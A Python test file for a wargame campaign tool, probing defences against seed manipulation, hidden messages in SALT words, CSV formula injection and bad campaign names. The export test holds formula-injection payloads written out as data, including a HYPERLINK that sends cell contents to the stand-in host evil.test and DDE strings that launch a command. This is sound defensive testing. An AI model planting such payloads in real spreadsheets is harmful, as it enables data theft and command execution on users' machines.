"""The second round of hostile probes (issue 36) that need no mail server: a rollback gives no
player the dice he read in a revealed seed; a SALT carries no message; an exported sheet opens
no formula; a campaign's name holds no newline and no '..'. (The probes by mail are in
tests/test_mail_fan_out.py.)"""

from __future__ import annotations

import csv
import hashlib
import shutil
from pathlib import Path

import yaml
from click.testing import CliRunner

from gm.app.campaign import open_campaign
from gm.app.reports import phase_report
from gm.cli import cli
from gm.core.dice import HashDice, salt_of
from gm.games.gwe.data.copies import export_data_set, import_data_set
from gm.games.gwe.games import read_bound
from gm.games.gwe.system import GreatWarInTheEast
from tests.conftest import gm

PLAYERS = ("-p", "A:Anna:a@x.org:pa", "-p", "B:Boris:b@x.org:pb", "-p", "C:Clara:c@x.org:pc")


def _started(folder: Path) -> None:
    gm("new", str(folder), "--seed", "probe", *PLAYERS)
    gm("end-trading", str(folder))
    gm("start", str(folder))


def _message(folder: Path, name: str, *lines: str) -> Path:
    path = folder.parent / name
    path.write_text("\n".join([f"GAME {folder.name}", "PLAYER A", "PASSWORD pa", *lines, ""]),
                    encoding="utf-8")
    return path


def _checked(folder: Path, message: Path, code: int) -> str:
    """`gm orders check` of a message against the campaign: its answer."""
    checked = CliRunner().invoke(cli, ["orders", "check", "--campaign", str(folder),
                                       str(message)])
    assert checked.exit_code == code, checked.output
    return checked.output


def test_a_rollback_gives_no_player_the_dice_he_read(tmp_path: Path) -> None:
    """The probe of issue 36: player A reads the seed the report reveals, searches offline for
    the SALT word that would give him the Random Event he wants (row 6, column 6) if the phase
    were played again with that seed, and sends it once the GM has rolled the phase back. The
    phase is seeded afresh from the campaign's secret seed: his word gives him nothing."""
    folder = tmp_path / "probe"
    _started(folder)
    opened = open_campaign(folder)
    opening = opened.latest().state
    gm("adjudicate", str(folder), str(_message(folder, "a.txt", "SALT first")))
    revealed = phase_report(open_campaign(folder), 1, 1, "A").dice_seed
    assert revealed is not None

    def dice_of(seed: str, word: str) -> list[str]:
        dice = HashDice(seed, (salt_of(word),))
        opened.system.adjudicate(opening, opened.data, {}, dice)
        return [roll.value for roll in dice.log]

    word = next(f"w{n}" for n in range(2000) if dice_of(revealed, f"w{n}") == ["6", "6"])
    gm("rollback", str(folder), "--to", "1.1", "--reason", "a lost order")
    gm("adjudicate", str(folder), str(_message(folder, "b.txt", f"SALT {word}")))
    again = open_campaign(folder)
    rolled = [r.value for r in again.store.rolls(again.row, again.latest().seq)]
    fresh = phase_report(again, 1, 1, "A")
    assert fresh.dice_seed is not None and fresh.dice_seed != revealed
    assert fresh.dice_salts == [salt_of(word)]
    assert rolled == dice_of(fresh.dice_seed, word) != ["6", "6"]
    verified = gm("verify", str(folder))
    assert "rollback to Game-Turn 1 phase 1 (entry" in verified and "seeded afresh" in verified
    assert "0 mismatch(es); 1 rollback(s)" in verified


def test_a_salt_is_a_short_word_and_reaches_the_others_as_its_digest(tmp_path: Path) -> None:
    """With no press (campaign.toml has no [press]), a SALT of free text is refused with the
    reason, and a word's letters never reach another player: his report shows the word's
    digest, which the writer can check against his word."""
    folder = tmp_path / "salty"
    _started(folder)
    press = "SALT " + "Boris, Clara attacks you at Tver next turn; trust me. " * 18
    answer = _checked(folder, _message(folder, "long.txt", press), 1)
    assert "SALT is one word of 1 to 32 letters, digits and '-'" in answer
    spaced = _checked(folder, _message(folder, "s.txt", "SALT Clara lies"), 1)
    assert "a salt carries no text" in spaced
    word = "Clara-attacks-Tver"
    answer = _checked(folder, _message(folder, "w.txt", f"SALT {word}"), 0)
    digest = hashlib.sha256(word.encode()).hexdigest()[:16]
    assert f"Your SALT word counts as the salt {digest}" in answer
    gm("adjudicate", str(folder), str(_message(folder, "w.txt", f"SALT {word}")))
    for form in ("text", "html", "json"):
        boris = gm("report", str(folder), "--player", "B", "--format", form)
        assert digest in boris and "Clara-attacks" not in boris and "Tver-" not in boris


def test_an_exported_sheet_opens_formulas_as_text_and_imports_them_back(tmp_path: Path) -> None:
    """Cells beginning with =, +, -, @ (HYPERLINK, DDE) are exported behind an apostrophe, so
    that a spreadsheet opens them as text; numbers such as -1 stay numbers; an import of the
    export takes the apostrophe off and gives the data back."""
    data = tmp_path / "data"
    shutil.copytree(GreatWarInTheEast().default_data_dir(), data)
    counters = yaml.safe_load((data / "counters.yaml").read_text(encoding="utf-8"))
    hostile = ['=HYPERLINK("http://evil.test/?"&A1,"Click")', "+cmd|' /C calc'!A0",
               "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", " =1+1",
               "'quoted'", "-1", "+3"]
    for unit, note in zip(counters["units"], hostile, strict=False):
        unit["note"] = note
    (data / "counters.yaml").write_text(yaml.safe_dump(counters, sort_keys=False),
                                        encoding="utf-8")
    export_data_set(data, tmp_path / "sheets")
    with (tmp_path / "sheets" / "counters.csv").open(encoding="utf-8", newline="") as sheet:
        notes = [row["note"] for row in csv.DictReader(sheet)][:len(hostile)]
    assert notes == [f"'{cell}" for cell in hostile[:6]] + ["-1", "+3"]
    import_data_set(tmp_path / "sheets", tmp_path / "back")
    back, problems = read_bound(tmp_path / "back")
    assert back is not None, problems
    assert [back.units[u["id"]].note for u in counters["units"][:len(hostile)]] == hostile


def test_a_campaign_name_with_a_newline_or_dots_is_refused(tmp_path: Path) -> None:
    for name, why in (("bad\nname", "control or invisible character"),
                      ("a..b", "'..'"), ("a<b>", "letters, digits"),
                      ("G\u0430me", "ASCII"), ("ends.", "ending with")):
        made = CliRunner().invoke(cli, ["new", str(tmp_path / name), *PLAYERS])
        said = str(made.exception)
        assert made.exit_code != 0 and "is refused" in said and why in said, said
        assert not (tmp_path / name).exists()
